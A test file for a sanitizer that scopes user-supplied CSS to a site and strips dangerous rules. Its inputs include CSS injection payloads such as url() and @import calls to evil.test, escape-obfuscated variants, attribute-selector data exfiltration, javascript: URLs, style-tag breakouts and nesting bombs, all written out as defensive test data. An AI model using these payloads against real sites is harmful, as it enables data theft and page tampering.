import { describe, expect, test } from 'vitest';
import { cleanCss, customCss, MOST_CUSTOM_CSS } from './custom-css.ts';

describe('an owner’s own CSS', () => {
  test.each([
    ['.card{color:red}', '[data-site] .card{color:red}'],
    ['h1, h2 > a:hover { margin: 0 auto }', '[data-site] h1,[data-site] h2>a:hover{margin:0 auto}'],
    ['body{color:red}', '[data-site]{color:red}'],
    [':root{--x:1px}', '[data-site]{--x:1px}'],
    ['html body .a{top:0}', '[data-site] .a{top:0}'],
    ['body > header{top:0}', '[data-site]>header{top:0}'],
    ['html.dark .a{top:0}', '[data-site].dark .a{top:0}'],
    ['@media (width<600px){.a{top:0}}', '@media (width<600px){[data-site] .a{top:0}}'],
    ['@keyframes x{from{top:0}to{top:1px}}', '@keyframes x{from{top:0}to{top:1px}}'],
    ['.a::before{content:"→"}', '[data-site] .a::before{content:"→"}'],
    [
      '.a{background:url(/files/0192/abc/w320.webp)}',
      '[data-site] .a{background:url(/files/0192/abc/w320.webp)}',
    ],
  ])('%s stays within the site', (source, css) => expect(cleanCss(source)).toEqual({ css, problems: [] }));

  test.each([
    '@import "https://evil.test/x.css";',
    '@import url(//evil.test/x.css);',
    '@\\69mport "https://evil.test/x.css";',
    '@charset "utf-7";',
    '@namespace url(http://evil.test);',
    '@font-face{font-family:x;src:url(https://evil.test/x.woff2)}',
    '@layer a{.a{top:0}}',
    '@page{margin:0}',
    '@property --x{syntax:"*";inherits:false}',
    'input[value^=a]{background:url(https://evil.test/a)}',
    '.a{background:url(//evil.test/a)}',
    '.a{background:URL("\\68ttps://evil.test/a")}',
    '.a{background:u\\72l(https://evil.test/a)}',
    '.a{background:image-set("https://evil.test/a" 1x)}',
    '.a{background:-webkit-image-set(url(https://evil.test/a) 1x)}',
    '.a{background:image("https://evil.test/a")}',
    '.a{background:src("https://evil.test/a")}',
    '.a{--x:url(https://evil.test/a);background:var(--x)}',
    '.a{--x:u\\72l(https://evil.test/a)}',
    '.a{cursor:url(data:image/svg+xml,x),auto}',
    '.a{background:url(/files/../api/account)}',
    '.a{background:url(/api/account/logout)}',
    '.a{list-style:url(javascript:alert(1))}',
    '.a{content:attr(value)}',
    '.a{width:expression(alert(1))}',
    '.a{behavior:url(x.htc)}',
    '.a{-moz-binding:url(//evil.test/x.xml#x)}',
    '@media print{@import url(//evil.test/a);}',
    '@supports (background:url(//evil.test/a)){.a{top:0}}',
    '.a{.b{background:url(//evil.test/a)}}',
    '.a{& ~ .b{top:0}}',
    '~ .admin{display:none}',
    '& ~ .admin{display:none}',
    'body ~ .admin{display:none}',
    'html + .admin{display:none}',
    'html.dark ~ .admin{display:none}',
    'body:not(.x) + .admin{display:none}',
    'html body[lang]:hover ~ .admin .bar{display:none}',
    '@media print{:root:has(.a) ~ .admin{display:none}}',
    '.a :root{display:none}',
    '.a{background:url(https://evil.test/a',
    '.a{}}} body ~ *{display:none}',
  ])('%s loads nothing and reaches nothing else', (source) => {
    const { css } = cleanCss(source);
    expect(css).not.toMatch(
      /evil|url\((?!\/files\/\w)|@import|@\\|image|expression|attr\(|binding|\.\.|:root|&|\bbody\b/i,
    );
    for (const [selector = ''] of css.matchAll(/[^{}]+(?=\{)/g))
      if (!selector.startsWith('@')) expect(selector).toMatch(/^(\[data-site\]( |>|[.{,:]|$)[^,~+]*,?)+$/);
  });

  test.each([
    '.a::after{content:"</style><script>alert(1)</script>"}',
    '.a::after{content:"<!--"}',
    '</style><script>alert(1)</script>',
  ])('%s does not end the style element', (source) => expect(cleanCss(source).css).not.toMatch(/<[/!a-z]/i));

  test('what is left out is named with its line', () =>
    expect(cleanCss('.a{top:0}\n@import "x.css";\n.b{\n  background:url(//evil.test)\n}').problems).toEqual([
      { line: 2, message: '@import isn’t allowed.' },
      { line: 4, message: 'Only files of this site can be loaded, such as url(/files/…).' },
    ]));

  test('half a rule is left out without a word', () => {
    for (const half of ['.a{', '.a{col', '.a{color', '.a{color:', '.a{color:red} .b', '/*'])
      expect(cleanCss(half).problems).toEqual([]);
  });

  test('nesting without end is read at once, and cut to its length', () => {
    for (const deep of [
      '('.repeat(MOST_CUSTOM_CSS),
      '.a{'.repeat(6000),
      ':not('.repeat(4000),
      '@media x{'.repeat(2000),
    ])
      expect(cleanCss(deep).css.length).toBeLessThan(MOST_CUSTOM_CSS * 6);
    expect(cleanCss(`${'/**/'.repeat(MOST_CUSTOM_CSS)}.a{top:0}`).css).toBe('');
    expect(customCss('')).toBe('');
  });

  test('its own output passes through unharmed a second time', () => {
    const once = cleanCss('@media (width>1px){h1{color:red}}.a::after{content:"<b>"}').css;
    expect(once).toContain('\\3c ');
  });
});
